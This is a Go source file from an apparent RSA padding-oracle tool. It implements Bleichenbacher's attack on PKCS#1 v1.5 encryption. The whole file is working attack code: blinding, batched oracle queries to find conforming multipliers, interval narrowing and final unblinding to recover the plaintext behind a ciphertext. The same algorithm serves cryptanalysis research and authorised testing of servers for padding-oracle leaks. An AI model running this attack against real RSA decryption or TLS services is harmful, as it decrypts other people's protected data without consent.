package padoracle

import (
	"context"
	"fmt"
	"io"
	"math/big"
	"time"

	"github.com/mahdiidarabi/rsa-oracle/internal/arith"
	"github.com/mahdiidarabi/rsa-oracle/internal/interval"
)

// BleichenbacherAttack recovers the PKCS#1 v1.5 block behind a ciphertext
// from an oracle that reports whether a ciphertext decrypts to a block
// starting with 00 02.
type BleichenbacherAttack struct {
	Config AttackConfig
}

// NewBleichenbacherAttack creates the attack with default settings.
func NewBleichenbacherAttack() *BleichenbacherAttack {
	return &BleichenbacherAttack{Config: DefaultAttackConfig()}
}

// WithConfig sets the attack configuration.
func (a *BleichenbacherAttack) WithConfig(config AttackConfig) *BleichenbacherAttack {
	a.Config = config
	return a
}

// Name returns the name of this attack.
func (a *BleichenbacherAttack) Name() string {
	return "Bleichenbacher"
}

// bleichenbacher holds the per-run constants and counters.
type bleichenbacher struct {
	key    *PublicKey
	oracle *Ensemble
	rep    *reporter
	cfg    AttackConfig

	k         int
	b2, b3    *big.Int // 2B and 3B
	c         *big.Int // attacked ciphertext
	c0, s0    *big.Int // blinded ciphertext and blinding factor
	queries   int64
	blindings int64
}

// Recover implements Attack.
func (a *BleichenbacherAttack) Recover(ctx context.Context, key *PublicKey, ciphertext *big.Int, oracle *Ensemble) (*RecoveryResult, error) {
	start := time.Now()
	if err := key.Validate(); err != nil {
		return nil, err
	}
	if ciphertext.Sign() < 0 || ciphertext.Cmp(key.N) >= 0 {
		return nil, fmt.Errorf("%w: ciphertext is not below the modulus", ErrInvalidQuery)
	}
	if a.Config.BruteForceThreshold < 0 {
		return nil, fmt.Errorf("brute-force threshold must not be negative, got %d", a.Config.BruteForceThreshold)
	}

	k := key.Size()
	bound := new(big.Int).Lsh(big.NewInt(1), uint(8*(k-2)))
	b := &bleichenbacher{
		key:    key,
		oracle: oracle,
		rep:    newReporter(a.Config),
		cfg:    a.Config,
		k:      k,
		b2:     new(big.Int).Mul(big.NewInt(2), bound),
		b3:     new(big.Int).Mul(big.NewInt(3), bound),
		c:      ciphertext,
	}
	oracle.SetWarningHandler(b.rep.warn)
	defer oracle.SetWarningHandler(nil)

	b.rep.phase("Starting Bleichenbacher attack: %d-byte modulus, %d oracles", k, oracle.Len())

	// Step 1: blinding
	b.rep.phase("Step 1: Blinding...")
	if err := b.blind(ctx, b.cfg.random()); err != nil {
		return nil, err
	}
	b.rep.phase("✓ Found s0 after %d queries", b.blindings)

	m := interval.Merge([]interval.Interval{
		interval.New(b.b2, new(big.Int).Sub(b.b3, big.NewInt(1))),
	})

	var s *big.Int
	for round := 1; ; round++ {
		if err := ctx.Err(); err != nil {
			return nil, err
		}

		var err error
		switch {
		case round == 1:
			// Step 2a
			s, err = b.findConforming(ctx, arith.DivCeil(key.N, b.b3))
		case len(m) > 1:
			// Step 2b
			s, err = b.findConforming(ctx, new(big.Int).Add(s, big.NewInt(1)))
		default:
			// Step 2c
			s, err = b.searchSingleInterval(ctx, m[0], s)
		}
		if err != nil {
			return nil, err
		}

		// Step 3
		m = b.narrow(m, s)
		if len(m) == 0 {
			return nil, fmt.Errorf("no interval left after round %d: %w", round, ErrInconsistentOracle)
		}

		b.rep.progress("Round %d: s=%s, %d interval(s), %d queries", round, s.Text(16), len(m), b.queries)
		b.rep.debug("  M = %s", m)

		// Step 4
		if only, ok := m.Single(); ok && only.Width().Cmp(big.NewInt(b.cfg.BruteForceThreshold)) <= 0 {
			b.rep.phase("✓ Narrowed to %s candidate(s) after %d rounds", new(big.Int).Add(only.Width(), big.NewInt(1)), round)
			value, err := b.finish(ctx, only)
			if err != nil {
				return nil, err
			}
			return &RecoveryResult{
				Plaintext:      key.Encode(value),
				Value:          value,
				Attack:         a.Name(),
				Verified:       true,
				BlindingFactor: b.s0,
				Rounds:         round,
				Queries:        b.queries,
				Duration:       time.Since(start),
			}, nil
		}
	}
}

// blind finds s0 such that c*s0^e is conforming. s0 is 1 when c already
// is.
func (b *bleichenbacher) blind(ctx context.Context, random io.Reader) error {
	ok, err := b.query(ctx, b.key.Encode(b.c))
	b.blindings++
	if err != nil {
		return fmt.Errorf("failed to query the ciphertext: %w", err)
	}
	if ok {
		b.s0, b.c0 = big.NewInt(1), new(big.Int).Set(b.c)
		return nil
	}

	buf := make([]byte, b.k)
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		if _, err := io.ReadFull(random, buf); err != nil {
			return fmt.Errorf("failed to draw blinding factor: %w", err)
		}
		s0 := new(big.Int).SetBytes(buf)
		s0.Mod(s0, b.key.N)
		if s0.Sign() == 0 {
			continue
		}

		c0 := arith.Blind(b.c, s0, b.key.E, b.key.N)
		ok, err := b.query(ctx, b.key.Encode(c0))
		b.blindings++
		if err != nil {
			return fmt.Errorf("failed to query blinded ciphertext: %w", err)
		}
		if ok {
			b.s0, b.c0 = s0, c0
			return nil
		}
	}
}

func (b *bleichenbacher) query(ctx context.Context, content []byte) (bool, error) {
	b.queries++
	return b.oracle.Query(ctx, content)
}

// searchBatch tests s = base .. base+count-1 in one batch and returns the
// smallest conforming s, or nil.
func (b *bleichenbacher) searchBatch(ctx context.Context, base *big.Int, count int) (*big.Int, error) {
	queries := make([]Query, count)
	s := new(big.Int)
	for i := range queries {
		s.Add(base, big.NewInt(int64(i)))
		queries[i] = Query{Offset: i, Content: b.key.Blind(b.c0, s)}
	}

	res, err := b.oracle.ProbeBatch(ctx, queries)
	b.queries += int64(count)
	b.rep.warnAll(res.Warnings)
	if err != nil {
		return nil, err
	}
	if !res.Found {
		return nil, nil
	}
	return new(big.Int).Add(base, big.NewInt(int64(res.Offset))), nil
}

// findConforming returns the smallest s >= from for which c0*s^e is
// conforming (Steps 2a and 2b).
func (b *bleichenbacher) findConforming(ctx context.Context, from *big.Int) (*big.Int, error) {
	width := b.oracle.Len()
	base := new(big.Int).Set(from)
	for {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		s, err := b.searchBatch(ctx, base, width)
		if err != nil {
			return nil, err
		}
		if s != nil {
			return s, nil
		}
		base.Add(base, big.NewInt(int64(width)))
	}
}

// searchSingleInterval implements Step 2c for M = {[a, b]}: for r from
// ceil(2(b*s - 2B)/n) upwards, try s in [(2B + rn)/b, (3B + rn)/a).
func (b *bleichenbacher) searchSingleInterval(ctx context.Context, iv interval.Interval, prev *big.Int) (*big.Int, error) {
	n := b.key.N
	lo, hi := iv.Lo, iv.Hi

	r := new(big.Int).Mul(hi, prev)
	r.Sub(r, b.b2)
	r.Lsh(r, 1)
	r = arith.DivCeil(r, n)

	width := int64(b.oracle.Len())
	for {
		if err := ctx.Err(); err != nil {
			return nil, err
		}

		rn := new(big.Int).Mul(r, n)
		start := arith.DivCeil(new(big.Int).Add(b.b2, rn), hi)

		// end is exclusive.
		top := new(big.Int).Add(b.b3, rn)
		end := arith.DivFloor(top, lo)
		if !arith.Divides(top, lo) {
			end.Add(end, big.NewInt(1))
		}

		for s := start; s.Cmp(end) < 0; {
			count := new(big.Int).Sub(end, s)
			if count.Cmp(big.NewInt(width)) > 0 {
				count.SetInt64(width)
			}
			found, err := b.searchBatch(ctx, s, int(count.Int64()))
			if err != nil {
				return nil, err
			}
			if found != nil {
				return found, nil
			}
			s = new(big.Int).Add(s, count)
		}
		r.Add(r, big.NewInt(1))
	}
}

// narrow implements Step 3: every [a, b] in m becomes the union over r of
// [max(a, ceil((2B + rn)/s)), min(b, floor((3B - 1 + rn)/s))].
func (b *bleichenbacher) narrow(m interval.Set, s *big.Int) interval.Set {
	n := b.key.N
	b3m1 := new(big.Int).Sub(b.b3, big.NewInt(1))

	var next []interval.Interval
	for _, iv := range m {
		// r from ceil((a*s - 3B + 1)/n) to floor((b*s - 2B)/n)
		rLo := new(big.Int).Mul(iv.Lo, s)
		rLo.Sub(rLo, b3m1)
		rLo = arith.DivCeil(rLo, n)

		rHi := new(big.Int).Mul(iv.Hi, s)
		rHi.Sub(rHi, b.b2)
		rHi = arith.DivFloor(rHi, n)

		for r := rLo; r.Cmp(rHi) <= 0; r = new(big.Int).Add(r, big.NewInt(1)) {
			rn := new(big.Int).Mul(r, n)

			lo := arith.DivCeil(new(big.Int).Add(b.b2, rn), s)
			if lo.Cmp(iv.Lo) < 0 {
				lo.Set(iv.Lo)
			}
			hi := arith.DivFloor(new(big.Int).Add(b3m1, rn), s)
			if hi.Cmp(iv.Hi) > 0 {
				hi.Set(iv.Hi)
			}
			if lo.Cmp(hi) <= 0 {
				next = append(next, interval.New(lo, hi))
			}
		}
	}
	return interval.Merge(next)
}

// finish unblinds every candidate of iv and returns the first one that
// re-encrypts to the ciphertext.
func (b *bleichenbacher) finish(ctx context.Context, iv interval.Interval) (*big.Int, error) {
	inv, err := arith.ModInverse(b.s0, b.key.N)
	if err != nil {
		return nil, fmt.Errorf("failed to unblind: %w", err)
	}

	for v := new(big.Int).Set(iv.Lo); v.Cmp(iv.Hi) <= 0; v.Add(v, big.NewInt(1)) {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		m := arith.MulMod(v, inv, b.key.N)
		if b.key.Encrypt(m).Cmp(b.c) == 0 {
			return m, nil
		}
	}
	return nil, ErrVerificationFailed
}
